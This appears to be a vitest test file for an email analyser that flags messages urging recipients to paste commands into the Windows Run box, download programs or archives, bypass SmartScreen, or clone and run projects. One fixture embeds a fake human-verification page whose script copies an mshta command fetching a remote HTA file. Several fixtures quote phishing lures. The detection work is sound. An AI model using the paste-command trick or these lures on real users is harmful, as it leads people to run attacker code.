import { describe, expect, it } from 'vitest';
import { context, message, pdf } from './fixture.js';
import { selfRun } from './self-run.js';

const codes = async (parts: Parameters<typeof message>[0]) =>
  (await selfRun.analyse(await message(parts), context())).map((s) => s.code);

describe('the self-run analyser', () => {
  it('names a page that copies a command and tells you to paste it into the Run box', async () => {
    const page =
      '<html><body><h3>Verify you are human</h3><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol><script>navigator.clipboard.writeText("mshta https://cdn.example.net/x.hta")</script></body></html>';
    const [found] = await selfRun.analyse(
      await message({
        from: 'Accounts <accounts@supplier.example>',
        text: 'Please find the invoice in the attached secure viewer.',
        attachments: [{ filename: 'Invoice.html', contentType: 'text/html', content: Buffer.from(page) }],
      }),
      context(),
    );
    expect(found).toMatchObject({ code: 'paste-command', weight: 55 });
    expect(found.explanation).toContain('copies the command for you');
    expect(
      await codes({
        from: 'Rechnung <rechnung@lieferant.example>',
        text: 'Drücken Sie Windows + R, dann Strg + V und die Eingabetaste, um das Dokument zu öffnen.',
      }),
    ).toEqual(['paste-command']);
  });

  it('names a program to download from an unknown site, a way past the warning, and a project to clone and run', async () => {
    expect(
      await codes({
        from: 'IT <it@helpdesk-updates.example>',
        text: 'Install the patch: https://browser-update.example.net/UpdateSetup.exe\nIf SmartScreen warns you, click "Run anyway".',
      }),
    ).toEqual(['warning-override', 'program-link']);
    expect(
      await codes({
        from: 'Recruiter <talent@gmail.com>',
        text: 'Clone the project from https://git-portal.example.net/x/dashboard, run npm install and npm start, then fix the bug.',
      }),
    ).toEqual(['program-link']);
  });

  it("weighs less an archive to download from a stranger's site, more when free mail sends it", async () => {
    const [found] = await selfRun.analyse(
      await message({
        from: 'Mateo <mateo.hughes@proton.me>',
        text: 'My prior-year returns are in the link below: https://docs-tax.example.net/client/2025_Returns.zip',
      }),
      context(),
    );
    expect(found).toMatchObject({ code: 'archive-link', weight: 35 });
    expect(found.explanation).toContain('free mail account');
    expect(
      await selfRun.analyse(
        await message({
          from: 'Files <files@partner.example>',
          text: 'The drawings: https://transfer-host.example.net/d/drawings.zip',
        }),
        context(),
      ),
    ).toMatchObject([{ code: 'archive-link', weight: 25 }]);
  });

  it("says nothing of IT's own install guide, a vendor's own download, or a list discussing commands", async () => {
    expect(
      await codes({
        from: 'IT Service Desk <servicedesk@corp.example>',
        text: 'Open PowerShell as yourself, paste the command below and press Enter to map the new drive.',
      }),
    ).toEqual([]);
    expect(
      await codes({
        from: 'Airline <booking@airline.example>',
        text: 'Your flight leaves from Terminal 3. Keep a copy of it, and press Enter at the kiosk to print your pass.',
      }),
    ).toEqual([]);
    expect(
      await codes({
        from: 'IT Service Desk <servicedesk@corp.example>',
        text: 'Install the new client from Software Center before Monday. Guide: https://intranet.corp.example/it/vpn',
      }),
    ).toEqual([]);
    expect(
      await codes({
        from: 'Releases <news@tool.example>',
        text: 'Version 4 is out: https://downloads.tool.example/Tool-4.0.msi',
      }),
    ).toEqual([]);
    expect(
      await codes({
        from: 'Dev list <dev@lists.example>',
        headers: ['List-Id: <dev.lists.example>'],
        text: 'Open PowerShell and paste the command below, then press Enter: https://x.example/get.ps1',
      }),
    ).toEqual([]);
  });

  it('reads the download link of an attached PDF', async () => {
    const summons = pdf(['CITACION JUDICIAL', 'Descargar expediente completo'], {
      link: 'https://expediente-session.example/descarga/kc3.zip',
    });
    expect(
      await codes({
        from: 'Juzgado <notificaciones@justicia-citaciones.example>',
        text: 'Consulte la citación adjunta.',
        attachments: [{ filename: 'Citacion.pdf', contentType: 'application/pdf', content: summons }],
      }),
    ).toEqual(['archive-link']);
  });
});
